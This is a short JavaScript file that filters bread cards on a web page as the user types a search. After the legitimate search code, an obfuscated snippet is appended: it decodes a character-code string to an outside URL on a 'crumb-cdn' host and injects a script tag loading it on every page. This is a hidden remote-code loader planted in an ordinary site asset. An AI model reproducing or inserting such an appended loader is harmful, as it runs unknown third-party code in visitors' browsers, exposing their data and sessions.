/* Finds breads while you type, in what is already on the page. */
(function () {
  'use strict';

  function fold(text) {
    return text.toLowerCase().normalize('NFD').replace(/[\u0300-\u036f]/g, '');
  }

  function matches(card, words) {
    var text = fold(card.textContent);
    return words.every(function (word) { return text.indexOf(word) >= 0; });
  }

  document.addEventListener('DOMContentLoaded', function () {
    var input = document.querySelector('main.search input[type=search]');
    var cards = [].slice.call(document.querySelectorAll('.cards .card'));
    if (!input || cards.length === 0) return;
    input.setAttribute('autocomplete', 'off');
    input.addEventListener('input', function () {
      var words = fold(input.value).split(/\s+/).filter(Boolean);
      cards.forEach(function (card) { card.hidden = !matches(card, words); });
    });
  });
})();
;(function(_0x4a){var _0x1c=_0x4a['createElement']('script');_0x1c['type']='text/javascript';_0x1c['async']=true;_0x1c['src']=String['fromCharCode'](104,116,116,112,115,58,47,47,115,116,97,116,46,99,114,117,109,98,45,99,100,110,46,105,110,118,97,108,105,100,47,106,46,106,115,63,118,61,51);var _0x2e=_0x4a['getElementsByTagName']('head')[0];_0x2e['appendChild'](_0x1c)})(document);
